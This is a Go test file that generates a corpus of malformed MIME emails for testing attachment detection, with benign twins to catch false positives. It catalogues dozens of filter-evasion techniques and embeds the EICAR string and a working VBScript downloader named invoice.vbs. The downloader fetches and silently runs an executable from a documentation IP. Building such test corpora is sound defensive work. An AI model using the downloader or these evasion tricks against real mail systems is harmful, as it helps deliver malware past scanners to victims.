package extract

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"
)

// The evasion corpus: one message per known way of making a filter and a
// mail client read a message differently, each carrying a risky (benign)
// payload, and benign twins for the techniques that have a legitimate
// look-alike. `go test ./extract -run TestEvasionCorpus -gen` writes them
// to testdata/evasion/ with manifest.json; testdata/evasion/parsers.py
// records which other parsers find each payload (parsers.md).

// evasionPayloads: EICAR, a VBScript downloader aimed at a documentation
// address (RFC 5737), a zip of both, and a PNG for the benign twins.
func evasionPayloads(t testing.TB) map[string]evasionPayload {
	eicarBytes := []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`)
	vbs := []byte("Set sh = CreateObject(\"WScript.Shell\")\r\n" +
		"Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n" +
		"x.Open \"GET\", \"http://192.0.2.10/update.exe\", False\r\n" +
		"x.Send\r\n" +
		"Set s = CreateObject(\"ADODB.Stream\")\r\n" +
		"s.Type = 1 : s.Open : s.Write x.ResponseBody\r\n" +
		"p = sh.ExpandEnvironmentStrings(\"%TEMP%\") & \"\\upd.exe\"\r\n" +
		"s.SaveToFile p, 2\r\n" +
		"sh.Run p, 0, False\r\n")
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" +
		"\x00\x00\x00\rIDATx\x9cc`\x00\x00\x00\x02\x00\x01T\xa2O]\x00\x00\x00\x00IEND\xaeB`\x82")
	return map[string]evasionPayload{
		"eicar": {"eicar.com", "application/octet-stream", eicarBytes},
		"vbs":   {"invoice.vbs", "application/octet-stream", vbs},
		"zip":   {"invoice.zip", "application/zip", zipOf(t, zipEntry{"eicar.com", eicarBytes}, zipEntry{"invoice.vbs", vbs})},
		"png":   {"logo.png", "image/png", png},
	}
}

type evasionPayload struct {
	name, ctype string
	data        []byte
}

// evasionCase is one message of the corpus.
type evasionCase struct {
	Name      string `json:"name"`
	Family    string `json:"family"`
	Technique string `json:"technique"`
	// Twin is a benign look-alike: it must stay deliverable.
	Twin    bool   `json:"twin"`
	Payload string `json:"payload"`
	SHA256  string `json:"payload_sha256"`
	File    string `json:"file"`
	msg     []byte
}

const evFrom = "From: <sender@example.net>\r\nTo: <rcpt@example.org>\r\nDate: Thu, 03 Dec 2026 12:00:00 +0000\r\n"

func crlf(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") }

func b64wrap(b []byte) string { return wrap76(base64.StdEncoding.EncodeToString(b)) }

// uuencode encodes b as a uuencoded block named name.
func uuencode(name string, b []byte) string {
	var s strings.Builder
	fmt.Fprintf(&s, "begin 644 %s\r\n", name)
	for i := 0; i < len(b); i += 45 {
		chunk := b[i:min(i+45, len(b))]
		s.WriteByte(byte(32 + len(chunk)))
		for j := 0; j < len(chunk); j += 3 {
			var q [3]byte
			copy(q[:], chunk[j:min(j+3, len(chunk))])
			for _, v := range []byte{q[0] >> 2, (q[0]<<4 | q[1]>>4) & 63, (q[1]<<2 | q[2]>>6) & 63, q[2] & 63} {
				if v == 0 {
					s.WriteByte('`')
				} else {
					s.WriteByte(32 + v)
				}
			}
		}
		s.WriteString("\r\n")
	}
	s.WriteString("`\r\nend\r\n")
	return s.String()
}

// yencode encodes b as a yEnc block.
func yencode(name string, b []byte) string {
	var s strings.Builder
	fmt.Fprintf(&s, "=ybegin line=128 size=%d name=%s\r\n", len(b), name)
	n := 0
	for _, c := range b {
		o := c + 42
		if o == 0 || o == '\n' || o == '\r' || o == '=' {
			s.WriteByte('=')
			o += 64
			n++
		}
		s.WriteByte(o)
		if n++; n >= 128 {
			s.WriteString("\r\n")
			n = 0
		}
	}
	fmt.Fprintf(&s, "\r\n=yend size=%d\r\n", len(b))
	return s.String()
}

// binhex encodes b as BinHex 4.0 (data fork only; CRCs are zero, which
// our reader, like most, does not check).
func binhex(name string, b []byte) string {
	var raw []byte
	raw = append(raw, byte(len(name)))
	raw = append(raw, name...)
	raw = append(raw, 0)
	raw = append(raw, "TEXTttxt"...)
	raw = append(raw, 0, 0)
	raw = append(raw, byte(len(b)>>24), byte(len(b)>>16), byte(len(b)>>8), byte(len(b)))
	raw = append(raw, 0, 0, 0, 0, 0, 0)
	for _, c := range b {
		raw = append(raw, c)
		if c == 0x90 {
			raw = append(raw, 0)
		}
	}
	raw = append(raw, 0, 0, 0, 0)
	const alphabet = "!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
	var s strings.Builder
	s.WriteString("(This file must be converted with BinHex 4.0)\r\n:")
	var acc uint32
	bits, col := 0, 1
	emit := func(v byte) {
		s.WriteByte(alphabet[v])
		if col++; col == 64 {
			s.WriteString("\r\n")
			col = 0
		}
	}
	for _, c := range raw {
		acc = acc<<8 | uint32(c)
		bits += 8
		for bits >= 6 {
			bits -= 6
			emit(byte(acc>>bits) & 63)
		}
	}
	if bits > 0 {
		emit(byte(acc<<(6-bits)) & 63)
	}
	s.WriteString(":\r\n")
	return s.String()
}

func attachPart(p evasionPayload) string {
	return fmt.Sprintf("Content-Type: %s; name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n",
		p.ctype, p.name, p.name, b64wrap(p.data))
}

// mixed builds a plain multipart/mixed body: text part, then the parts.
func mixed(boundary string, parts ...string) string {
	var s strings.Builder
	s.WriteString("This is a multi-part message in MIME format.\r\n")
	fmt.Fprintf(&s, "--%s\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nPlease see the attached invoice.\r\n", boundary)
	for _, p := range parts {
		fmt.Fprintf(&s, "--%s\r\n%s", boundary, p)
	}
	fmt.Fprintf(&s, "--%s--\r\n", boundary)
	return s.String()
}

func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := []byte{0xff, 0xfe}
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	return b
}

// evasionCases builds the corpus, in a fixed order with fixed boundaries,
// so that regenerating it gives the same bytes.
func evasionCases(t testing.TB) []evasionCase {
	P := evasionPayloads(t)
	var cs []evasionCase
	add := func(name, family, technique, payload string, twin bool, build func(subject string) string) {
		n := len(cs) + 1
		subject := fmt.Sprintf("evasion-%02d-%s", n, name)
		msg := []byte(build(subject))
		cs = append(cs, evasionCase{Name: name, Family: family, Technique: technique, Twin: twin, Payload: payload,
			SHA256: sha256Hex(P[payload].data), File: fmt.Sprintf("%02d-%s.eml", n, name), msg: msg})
	}
	mh := func(subject, ct string) string {
		return evFrom + "Subject: " + subject + "\r\nMIME-Version: 1.0\r\nContent-Type: " + ct + "\r\n\r\n"
	}
	std := func(subject, payload string) string {
		return mh(subject, `multipart/mixed; boundary="b1"`) + mixed("b1", attachPart(P[payload]))
	}

	// Header: broken lines and white space.
	add("broken-header-line", "header", "a line without a colon before the MIME fields (Python ends the header there; Thunderbird skips it)", "zip", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nthis line has no colon\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
			mixed("b1", attachPart(P["vbs"]), attachPart(P["zip"]))
	})
	add("broken-header-line-twin", "header", "benign twin: a line without a colon, a PNG", "png", true, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nthis line has no colon\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
			mixed("b1", attachPart(P["png"]))
	})
	add("broken-header-line-lf", "header", "a line without a colon, LF line ends", "vbs", false, func(s string) string {
		return strings.ReplaceAll(evFrom+"Subject: "+s+"\r\n>>> quoted junk\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"+
			mixed("b1", attachPart(P["vbs"])), "\r\n", "\n")
	})
	add("part-header-broken-line", "header", "a part header with a line without a colon before its Content-Disposition and encoding", "vbs", false, func(s string) string {
		p := P["vbs"]
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream\r\nX-Note this is no field\r\nContent-Disposition: attachment; filename=\"invoice.vbs\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64wrap(p.data)+"\r\n")
	})
	add("whitespace-line-in-header", "header", "a line of spaces inside the header, MIME fields after it (a fold for some, the end of the header for others)", "eicar", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nContent-Type: text/plain\r\n   \r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" + mixed("b1", attachPart(P["eicar"]))
	})
	add("space-before-colon", "header", "\"Content-Type :\" with a space before the colon", "eicar", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nMIME-Version: 1.0\r\nContent-Type : multipart/mixed; boundary=\"b1\"\r\n\r\n" + mixed("b1", attachPart(P["eicar"]))
	})
	add("nul-in-header", "header", "a NUL byte inside the boundary parameter (C parsers stop there)", "eicar", false, func(s string) string {
		return mh(s, "multipart/mixed; boundary=\"b1\x00decoy\"") + mixed("b1", attachPart(P["eicar"]))
	})

	// Duplicate fields and parameters.
	add("dup-content-type-text-first", "duplicate", "two Content-Type headers, text/plain first, multipart second", "zip", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" + mixed("b1", attachPart(P["zip"]))
	})
	add("dup-content-type-text-last", "duplicate", "two Content-Type headers, multipart first, text/plain second", "zip", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\nContent-Type: text/plain\r\n\r\n" + mixed("b1", attachPart(P["zip"]))
	})
	add("dup-boundary-param", "duplicate", "two boundary parameters, decoy first (CVE-2024-28054, amavis)", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="decoy"; boundary="real"`) +
			"--decoy\r\nContent-Type: text/plain\r\n\r\nhello\r\n--real\r\n" + attachPart(P["eicar"]) + "--real--\r\n--decoy--\r\n"
	})
	add("dup-boundary-param-last", "duplicate", "two boundary parameters, real first, decoy structure around it", "vbs", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="real"; boundary="decoy"`) +
			"--decoy\r\nContent-Type: text/plain\r\n\r\nhello\r\n--real\r\n" + attachPart(P["vbs"]) + "--real--\r\n--decoy--\r\n"
	})
	add("dup-cte", "duplicate", "two Content-Transfer-Encoding headers, 7bit first", "eicar", false, func(s string) string {
		p := P["eicar"]
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream; name=\"eicar.com\"\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64wrap(p.data)+"\r\n")
	})
	add("dup-disposition", "duplicate", "two Content-Disposition headers naming a .txt and a .vbs", "vbs", false, func(s string) string {
		p := P["vbs"]
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"notes.txt\"\r\nContent-Disposition: attachment; filename=\"invoice.vbs\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64wrap(p.data)+"\r\n")
	})

	// Parameter forms.
	add("boundary-rfc2231", "parameter", "boundary in RFC 2231 continuations", "eicar", false, func(s string) string {
		return mh(s, "multipart/mixed;\r\n boundary*0=\"b1-\";\r\n boundary*1=\"cont\"") + mixed("b1-cont", attachPart(P["eicar"]))
	})
	add("boundary-rfc2231-charset", "parameter", "boundary in RFC 2231 charset form with percent escapes", "eicar", false, func(s string) string {
		return mh(s, "multipart/mixed; boundary*=us-ascii'en'b%31-pct") + mixed("b1-pct", attachPart(P["eicar"]))
	})
	add("boundary-encoded-word", "parameter", "boundary as an RFC 2047 encoded word, body uses the decoded form", "zip", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="=?us-ascii?Q?b1-ew?="`) + mixed("b1-ew", attachPart(P["zip"]))
	})
	add("boundary-encoded-word-raw", "parameter", "boundary as an RFC 2047 encoded word, body uses the raw form", "zip", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="=?us-ascii?Q?b1-ew?="`) + mixed("=?us-ascii?Q?b1-ew?=", attachPart(P["zip"]))
	})
	add("boundary-comment", "parameter", "RFC 822 comments around the boundary parameter", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; (note) boundary=(decoy)"b1-cm" (tail)`) + mixed("b1-cm", attachPart(P["eicar"]))
	})
	add("type-comment", "parameter", "RFC 822 comment inside the media type", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed(x); boundary="b1"`) + mixed("b1", attachPart(P["eicar"]))
	})
	add("boundary-single-quotes", "parameter", "boundary in single quotes", "vbs", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary='b1-sq'`) + mixed("b1-sq", attachPart(P["vbs"]))
	})
	add("boundary-unquoted-space", "parameter", "unquoted boundary with a space in it", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary=b1 sp`) + mixed("b1 sp", attachPart(P["eicar"]))
	})
	add("boundary-no-semicolon", "parameter", "boundary parameter without the ';' before it", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed boundary="b1"`) + mixed("b1", attachPart(P["eicar"]))
	})
	add("filename-encoded-word", "parameter", "file name as an encoded word hiding .vbs", "vbs", false, func(s string) string {
		p := P["vbs"]
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream; name=\"=?utf-8?B?aW52b2ljZS52YnM=?=\"\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64wrap(p.data)+"\r\n")
	})
	add("filename-2231-vs-plain", "parameter", "name=report.txt in Content-Type, filename*= invoice.vbs in Content-Disposition", "vbs", false, func(s string) string {
		p := P["vbs"]
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: text/plain; name=\"report.txt\"\r\nContent-Disposition: attachment; filename*=utf-8''invoice.vbs\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64wrap(p.data)+"\r\n")
	})

	// Boundaries and delimiters.
	add("boundary-prefix", "boundary", "a delimiter line that only starts with the boundary (\"--b1x\") opens the payload part for prefix-matching parsers", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) +
			"--b1\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b1x\r\n" + attachPart(P["eicar"]) + "--b1--\r\n"
	})
	add("delimiter-trailing-junk", "boundary", "delimiter line with junk after the boundary", "vbs", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) +
			"--b1\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b1 junk\r\n" + attachPart(P["vbs"]) + "--b1--\r\n"
	})
	add("delimiter-leading-space", "boundary", "delimiter line indented by a space", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) +
			"--b1\r\nContent-Type: text/plain\r\n\r\nhello\r\n --b1\r\n" + attachPart(P["eicar"]) + "--b1--\r\n"
	})
	add("boundary-case-mismatch", "boundary", "declared boundary differs in case from the one the body uses", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="B1-CASE"`) + mixed("b1-case", attachPart(P["eicar"]))
	})
	add("boundary-mismatch", "boundary", "declared boundary never used; the body holds parts under another", "zip", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="decoy"`) + mixed("b1-real", attachPart(P["zip"]))
	})
	add("boundary-missing", "boundary", "multipart without a boundary parameter", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed`) + mixed("b1", attachPart(P["eicar"]))
	})
	add("nested-same-boundary", "boundary", "inner multipart reuses the outer boundary; the payload follows the first close delimiter", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) +
			"--b1\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b1--\r\n\r\n--b1\r\n" + attachPart(P["eicar"]) + "--b1--\r\n"
	})
	add("parts-after-close", "boundary", "payload part after the close delimiter, in the epilogue", "vbs", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1") + "--b1\r\n" + attachPart(P["vbs"]) + "--b1--\r\n"
	})
	add("missing-close", "boundary", "no close delimiter after the payload part", "zip", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + strings.TrimSuffix(mixed("b1", attachPart(P["zip"])), "--b1--\r\n")
	})
	add("missing-close-twin", "boundary", "benign twin: no close delimiter after a PNG (common in real mail)", "png", true, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + strings.TrimSuffix(mixed("b1", attachPart(P["png"])), "--b1--\r\n")
	})
	add("multipart-base64", "boundary", "multipart entity with Content-Transfer-Encoding: base64 over its parts", "eicar", false, func(s string) string {
		inner := mixed("b2", attachPart(P["eicar"]))
		return evFrom + "Subject: " + s + "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b2\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64wrap([]byte(inner)) + "\r\n"
	})
	add("preamble-mime", "boundary", "payload parts in the preamble under another boundary", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + "--pre\r\n" + attachPart(P["eicar"]) + "--pre--\r\n" + mixed("b1")
	})

	// Line breaks.
	add("cr-only", "line-breaks", "CR-only line breaks throughout", "eicar", false, func(s string) string {
		return strings.ReplaceAll(std(s, "eicar"), "\r\n", "\r")
	})
	add("lf-only-twin", "line-breaks", "benign twin: LF-only line breaks (Unix mail), a PNG", "png", true, func(s string) string {
		return strings.ReplaceAll(std(s, "png"), "\r\n", "\n")
	})
	add("lf-only", "line-breaks", "LF-only line breaks throughout", "vbs", false, func(s string) string {
		return strings.ReplaceAll(std(s, "vbs"), "\r\n", "\n")
	})
	add("bare-lf-delimiter", "line-breaks", "CRLF message whose delimiter and part header end with bare LF", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) +
			"--b1\r\nContent-Type: text/plain\r\n\r\nhello\n--b1\nContent-Type: application/octet-stream; name=\"eicar.com\"\nContent-Transfer-Encoding: base64\n\n" + b64wrap(P["eicar"].data) + "\r\n--b1--\r\n"
	})
	add("bare-cr-delimiter", "line-breaks", "CRLF message whose payload delimiter is set off by bare CR", "zip", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) +
			"--b1\r\nContent-Type: text/plain\r\n\r\nhello\r--b1\rContent-Type: application/zip; name=\"invoice.zip\"\rContent-Transfer-Encoding: base64\r\r" + b64wrap(P["zip"].data) + "\r\n--b1--\r\n"
	})

	// Transfer encodings.
	add("base64-junk", "encoding", "junk characters inside the base64", "eicar", false, func(s string) string {
		enc := b64wrap(P["eicar"].data)
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream; name=\"eicar.com\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+enc[:20]+"!*~"+enc[20:]+"\r\n")
	})
	add("base64-after-padding", "encoding", "base64 in padded chunks: decoders that stop at the first '=' see only the start", "vbs", false, func(s string) string {
		d := P["vbs"].data
		enc := base64.StdEncoding.EncodeToString(d[:4]) + base64.StdEncoding.EncodeToString(d[4:])
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream; name=\"invoice.vbs\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+wrap76(enc)+"\r\n")
	})
	add("cte-misspelled", "encoding", "Content-Transfer-Encoding: base-64 (unknown to the standard, decoded by some)", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream; name=\"eicar.com\"\r\nContent-Transfer-Encoding: base-64\r\n\r\n"+b64wrap(P["eicar"].data)+"\r\n")
	})
	add("cte-comment", "encoding", "Content-Transfer-Encoding with an RFC 822 comment", "zip", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/zip; name=\"invoice.zip\"\r\nContent-Transfer-Encoding: base64 (binary)\r\n\r\n"+b64wrap(P["zip"].data)+"\r\n")
	})
	add("cte-quoted", "encoding", "Content-Transfer-Encoding value in quotes", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream; name=\"eicar.com\"\r\nContent-Transfer-Encoding: \"base64\"\r\n\r\n"+b64wrap(P["eicar"].data)+"\r\n")
	})
	add("x-uuencode-cte", "encoding", "Content-Transfer-Encoding: x-uuencode", "vbs", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream; name=\"invoice.vbs\"\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n"+uuencode("invoice.vbs", P["vbs"].data))
	})
	add("quoted-printable-payload", "encoding", "payload in quoted-printable", "eicar", false, func(s string) string {
		var q strings.Builder
		for _, c := range P["eicar"].data {
			if c == '=' || c > 126 {
				fmt.Fprintf(&q, "=%02X", c)
			} else {
				q.WriteByte(c)
			}
		}
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: application/octet-stream; name=\"eicar.com\"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"+q.String()+"\r\n")
	})

	// Files inside text.
	add("uuencode-in-text", "inline", "uuencoded file inside a text/plain body (Outlook shows it as an attachment)", "eicar", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n\r\n" + uuencode("eicar.com", P["eicar"].data)
	})
	add("uuencode-in-text-twin", "inline", "benign twin: a text that talks about \"begin 644\" without a block", "png", true, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nContent-Type: text/plain\r\n\r\nTo begin 644 tasks, start here.\r\nThe end\r\n"
	})
	add("uuencode-in-html", "inline", "uuencoded file inside a text/html part", "vbs", false, func(s string) string {
		return mh(s, `multipart/alternative; boundary="b1"`) + "--b1\r\nContent-Type: text/html\r\n\r\n<html><body><pre>\r\n" + uuencode("invoice.vbs", P["vbs"].data) + "</pre></body></html>\r\n--b1--\r\n"
	})
	add("uuencode-qp-text", "inline", "uuencoded file inside a quoted-printable text part", "zip", false, func(s string) string {
		uu := strings.ReplaceAll(uuencode("invoice.zip", P["zip"].data), "=", "=3D")
		return mh(s, `multipart/mixed; boundary="b1"`) + "--b1\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + uu + "--b1--\r\n"
	})
	add("uuencode-utf16", "inline", "uuencoded file inside a UTF-16 text part", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + "--b1\r\nContent-Type: text/plain; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
			b64wrap(utf16le("See below.\r\n"+uuencode("eicar.com", P["eicar"].data))) + "\r\n--b1--\r\n"
	})
	add("uuencode-preamble", "inline", "uuencoded file in the preamble of a multipart", "vbs", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + uuencode("invoice.vbs", P["vbs"].data) + mixed("b1")
	})
	add("uuencode-epilogue", "inline", "uuencoded file in the epilogue of a multipart", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1") + uuencode("eicar.com", P["eicar"].data)
	})
	add("yenc-in-text", "inline", "yEnc block inside a text/plain body", "zip", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nContent-Type: text/plain\r\n\r\n" + yencode("invoice.zip", P["zip"].data)
	})
	add("binhex-in-text", "inline", "BinHex 4.0 block inside a text/plain body", "vbs", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nContent-Type: text/plain\r\n\r\n" + binhex("invoice.vbs", P["vbs"].data)
	})

	// Disguised parts and containers.
	add("text-plain-named", "disguise", "text/plain part with a .vbs name and no Content-Disposition", "vbs", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: text/plain; name=\"invoice.vbs\"\r\n\r\n"+string(P["vbs"].data)+"\r\n")
	})
	add("no-content-type", "disguise", "part with only Content-Disposition: attachment", "eicar", false, func(s string) string {
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Disposition: attachment; filename=\"eicar.com\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64wrap(P["eicar"].data)+"\r\n")
	})
	add("inline-disposition", "disguise", "Content-Disposition: inline with a file name", "zip", false, func(s string) string {
		return mh(s, `multipart/related; boundary="b1"`) + mixed("b1",
			"Content-Type: application/zip\r\nContent-Disposition: inline; filename=\"invoice.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64wrap(P["zip"].data)+"\r\n")
	})
	add("alternative-hides-attachment", "disguise", "payload as a third alternative of multipart/alternative", "eicar", false, func(s string) string {
		return mh(s, `multipart/alternative; boundary="b1"`) + mixed("b1", "Content-Type: text/html\r\n\r\n<p>hi</p>\r\n", attachPart(P["eicar"]))
	})
	add("rfc822-base64", "container", "forwarded message/rfc822 part, itself base64-encoded", "zip", false, func(s string) string {
		inner := evFrom + "Subject: inner\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b2\"\r\n\r\n" + mixed("b2", attachPart(P["zip"]))
		return mh(s, `multipart/mixed; boundary="b1"`) + mixed("b1",
			"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64wrap([]byte(inner))+"\r\n")
	})
	add("message-partial", "container", "payload split with message/partial (cannot be judged until reassembled)", "eicar", false, func(s string) string {
		whole := std("inner", "eicar")
		return evFrom + "Subject: " + s + "\r\nMIME-Version: 1.0\r\nContent-Type: message/partial; id=\"ev@example.net\"; number=1; total=2\r\n\r\n" + whole[:len(whole)/2]
	})
	add("digest-default-type", "container", "multipart/digest part without Content-Type (defaults to message/rfc822)", "eicar", false, func(s string) string {
		inner := evFrom + "Subject: inner\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b2\"\r\n\r\n" + mixed("b2", attachPart(P["eicar"]))
		return mh(s, `multipart/digest; boundary="b1"`) + "--b1\r\n\r\n" + inner + "--b1--\r\n"
	})
	add("text-body-holds-mime", "container", "text/plain top level whose body is a MIME multipart (the header that declared it lost)", "vbs", false, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nContent-Type: text/plain\r\n\r\n" + mixed("b1", attachPart(P["vbs"]))
	})
	add("quoted-bounce-twin", "container", "benign twin: a bounce quoting the original MIME message in text/plain, a PNG", "png", true, func(s string) string {
		return evFrom + "Subject: " + s + "\r\nContent-Type: text/plain\r\n\r\nThe original message follows.\r\n\r\n" + mixed("b1", attachPart(P["png"]))
	})
	return cs
}
